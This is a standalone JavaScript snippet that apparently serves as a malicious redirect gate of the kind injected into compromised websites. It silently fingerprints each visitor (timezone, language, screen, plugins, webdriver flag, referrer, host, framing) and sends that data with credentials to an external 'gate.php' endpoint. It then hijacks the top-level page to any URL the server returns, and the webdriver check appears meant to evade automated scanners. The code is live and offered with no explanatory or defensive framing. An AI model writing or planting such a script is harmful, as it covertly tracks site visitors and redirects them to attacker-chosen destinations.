(function () {
  var gate = 'https://cdn.trafficsplit-api.xyz/gate.php';

  function tz() {
    try {
      return Intl.DateTimeFormat().resolvedOptions().timeZone;
    } catch (e) {
      return 'UTC' + (-new Date().getTimezoneOffset() / 60);
    }
  }

  var info = [
    'tz=' + encodeURIComponent(tz()),
    'lg=' + encodeURIComponent(navigator.language || navigator.userLanguage || ''),
    'sr=' + screen.width + 'x' + screen.height + 'x' + screen.colorDepth,
    'vp=' + window.innerWidth + 'x' + window.innerHeight,
    'tc=' + (('ontouchstart' in window) ? 1 : 0),
    'wd=' + (navigator.webdriver ? 1 : 0),
    'pl=' + (navigator.plugins ? navigator.plugins.length : 0),
    'rf=' + encodeURIComponent(document.referrer),
    'st=' + encodeURIComponent(location.host),
    'fr=' + (window.top !== window.self ? 1 : 0)
  ].join('&');

  var xhr = new XMLHttpRequest();
  xhr.open('GET', gate + '?' + info + '&_=' + Math.random(), true);
  xhr.withCredentials = true;
  xhr.onreadystatechange = function () {
    if (xhr.readyState !== 4 || xhr.status !== 200) return;
    var data;
    try {
      data = JSON.parse(xhr.responseText);
    } catch (e) {
      return;
    }
    if (!data || !data.r) return;
    try {
      top.location.href = data.r;
    } catch (e) {
      window.location.href = data.r;
    }
  };
  xhr.send(null);
})();
